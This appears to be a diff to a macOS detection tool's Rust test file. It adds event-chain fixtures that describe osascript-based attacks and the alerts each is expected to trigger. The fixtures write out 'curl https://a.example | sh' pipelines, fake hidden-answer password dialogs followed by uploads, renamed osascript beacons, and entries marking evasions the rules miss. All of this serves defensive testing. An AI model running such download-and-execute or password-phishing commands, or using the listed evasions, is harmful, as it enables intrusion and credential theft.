@@ -24,7 +24,7 @@ struct Chain {
 
 const CHAIN: Chain = Chain { name: "", events: "", alerts: &[], off: &[], silent: "" };
 
-const CHAINS: [Chain; 30] = [
+const CHAINS: [Chain; 44] = [
     Chain {
         name: "a pasted curl | osascript and its child curl",
         events: "0 z=zsh; 1 c=curl < z : -s https://a.example; 1 o=osascript < z; 2 c -> 93.184.216.34; 3 d=curl < o; 4 d -> 93.184.216.35",
@@ -195,6 +195,90 @@ const CHAINS: [Chain; 30] = [
         name: "osascript under another name",
         events: "0 !com.apple.osascript u=/private/tmp/updater; 1 !com.apple.osascript u -> 93.184.216.34",
         alerts: &["osascript-renamed-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "curl of an osascript under another name, after a minute",
+        events: "0 !com.apple.osascript u=/private/tmp/updater : -e 'do shell script \"curl https://a.example | sh\"'; 60 s=sh < u; 61 c=curl < s; 62 c -> 93.184.216.34",
+        alerts: &["osascript-renamed-descendant-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "an osascript under another name that beacons after an hour",
+        events: "0 !com.apple.osascript u=/private/tmp/updater : a.js; 3500 u -> 93.184.216.34",
+        alerts: &["osascript-renamed-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a download piped into osascript under another name, whose curl connects",
+        events: "0 z=zsh; 1 c=curl < z : -s https://a.example; 1 !com.apple.osascript u=/private/tmp/updater < z; 3 d=curl < u; 4 d -> 93.184.216.35",
+        alerts: &["osascript-renamed-descendant-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a dialog of an osascript under another name, and an upload",
+        events: "0 b=Setup; 1 !com.apple.osascript o=/private/tmp/.o < b : -e 'display dialog \"Password\" with hidden answer'; 20 o end; 21 b -> 93.184.216.34",
+        alerts: &["osascript-dialog-parent-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "an applet that asks for the password for a minute, then curl | sh",
+        events: "0 a=applet; 60 s=sh < a : -c 'curl -s https://a.example | sh'; 61 c=curl < s; 62 c -> 93.184.216.34",
+        alerts: &["script-host-late-descendant-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a payload that an applet leaves in the background",
+        events: "0 a=applet; 1 s=sh < a; 1 p=/tmp/.p < s; 2 s end; 2 a end; 600 p -> 93.184.216.34",
+        alerts: &["script-host-late-descendant-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "an applet that connects itself after five minutes",
+        events: "0 a=applet; 300 a -> 93.184.216.34",
+        alerts: &["script-host-late-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a Quick Action of a service that runs for an hour",
+        events: "0 w=WorkflowServiceRunner; 3500 s=sh < w; 3501 c=curl < s; 3502 c -> 93.184.216.34",
+        alerts: &["script-host-late-descendant-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a shell of Script Editor that packs for a minute and then uploads",
+        events: "0 e=Script Editor; 1 s=sh < e; 61 c=curl < s; 62 c -> 93.184.216.34",
+        alerts: &["script-host-late-descendant-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a payload of root that has sudo show the dialog to the user",
+        events: "0 b=helperd; 1 s=sudo < b : -u ada osascript -e 'display dialog \"Password\" with hidden answer'; 2 o=osascript < s : -e 'display dialog \"Password\" with hidden answer'; 20 b -> 93.184.216.34",
+        alerts: &["osascript-dialog-parent-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a download with a header that reads like an option, into osascript with arguments",
+        events: "0 z=zsh; 1 c=curl < z : -H 'x: -o' https://a.example; 1 o=osascript < z : -l JavaScript - id; 2 c -> 93.184.216.34",
+        alerts: &["osascript-piped-download"],
+        ..CHAIN
+    },
+    Chain {
+        name: "an applet under another name",
+        events: "0 a=Installer Helper; 1 s=sh < a; 2 c=curl < s; 3 c -> 93.184.216.34",
+        silent: "an applet whose executable has another name",
+        ..CHAIN
+    },
+    Chain {
+        name: "a dialog of a shell script, and an upload by the program that ran it",
+        events: "0 b=node; 1 s=bash < b : ask.sh; 2 o=osascript < s : -e 'display dialog \"Password\" with hidden answer'; 20 b -> 93.184.216.34",
+        silent: "a dialog of a program whose shell script asks",
+        ..CHAIN
+    },
+    Chain {
+        name: "a download whose header is an option for a file",
+        events: "0 z=zsh; 1 c=curl < z : -H -o https://a.example; 1 o=osascript < z; 2 c -> 93.184.216.34",
+        silent: "a download that `curl -H -o` and the like hide",
         ..CHAIN
     },
     Chain {
